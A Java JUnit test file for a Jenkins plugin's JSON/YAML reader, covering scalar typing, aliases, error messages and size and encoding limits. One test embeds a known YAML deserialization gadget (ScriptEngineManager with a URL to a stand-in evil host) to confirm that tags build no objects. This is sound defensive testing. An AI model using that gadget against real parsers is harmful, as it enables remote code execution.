package io.jenkins.plugins.externalsystems.core.schema.document;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.jenkins.plugins.externalsystems.core.schema.SchemaBudget;
import io.jenkins.plugins.externalsystems.core.schema.SchemaException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** JSON and YAML as plain data, and what is refused. */
class DocumentTextTest {
    @Test
    void valuesOfYamlMeanWhatTheyMeanInJson() {
        DocumentNode yaml = read("""
            %YAML 1.2
            ---
            a: &x [yes, 2020-01-01, 1, 1.5, true, null, '1', 0x10, .5, 1_000]
            b: *x
            "c d": {e: |
              text
             }
            """.replace("{e: |\n  text\n }", "ok"));

        List<String> kinds = yaml.get("b").elements().stream()
                .map(node -> node.scalar() == null
                        ? "nothing"
                        : node.scalar().getClass().getSimpleName() + " " + node.scalar())
                .toList();
        assertThat(kinds)
                .containsExactly(
                        "String yes",
                        "String 2020-01-01",
                        "BigInteger 1",
                        "BigDecimal 1.5",
                        "Boolean true",
                        "nothing",
                        "String 1",
                        "String 0x10",
                        "BigDecimal 0.5",
                        "String 1_000");
        assertThat(yaml.text("c d")).isEqualTo("ok");
        assertThat(yaml.get("b").elements().get(1).where()).isEqualTo("#/b/1");
        assertThat(yaml.get("no/such~thing").get("x").where()).isEqualTo("#/no~1such~0thing/x");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "'{\"a\":1,\"a\":2}' | The document has the key 'a' twice in one place at line 1.",
                "'a: 1\na: 2' | The document has the key 'a' twice in one place at line 2.",
                "'{\"a\":' | The document is not valid JSON at line 1, column 6.",
                "'a: [1' | The document is not valid YAML at line 1, column 6 (expected ',' or ']'",
                "'a: &x [*x]' | The document has the alias '*x' for something that it is a part of at line 1.",
                "'a: *y' | The document has the alias '*y' for an anchor that is not there at line 1.",
                "'a: {<<: {b: 1}}' | The document merges maps with '<<' at line 1, which YAML 1.2 does not have",
                "'? [a]\n: b' | The document has a list or a map as a key at line 1.",
                "'a: 1\n---\nb: 2' | The document has several YAML documents; the second begins at line 2.",
                "'{} {}' | The document has more than one root at line 1.",
                "'<html/>' | The document is XML or a web page, neither JSON nor YAML.",
                "'  ' | The document is empty."
            })
    void whatIsNoneIsRefusedWithItsPlace(String text, String sentence) {
        assertThatThrownBy(() -> read(text)).isInstanceOf(SchemaException.class).hasMessageStartingWith(sentence);
    }

    @Test
    void tagsMakeNoObjects() {
        DocumentNode yaml = read("a: !!javax.script.ScriptEngineManager [!!java.net.URL ['http://evil.example']]");

        assertThat(yaml.get("a").elements().get(0).elements().get(0).text()).contains("http://evil.example");
    }

    @Test
    void bytesOfAnotherEncodingAndTooManyAreRefused() {
        assertThatThrownBy(() -> DocumentText.read(new byte[] {'a', (byte) 0xFF}, new SchemaBudget()))
                .hasMessage("The document is not in UTF-8.");
        assertThatThrownBy(() -> DocumentText.read(new byte[11 * 1024 * 1024], new SchemaBudget()))
                .hasMessage("The document has more than 10,485,760 bytes.");
    }

    private static DocumentNode read(String text) {
        return DocumentText.read(text.getBytes(StandardCharsets.UTF_8), new SchemaBudget());
    }
}
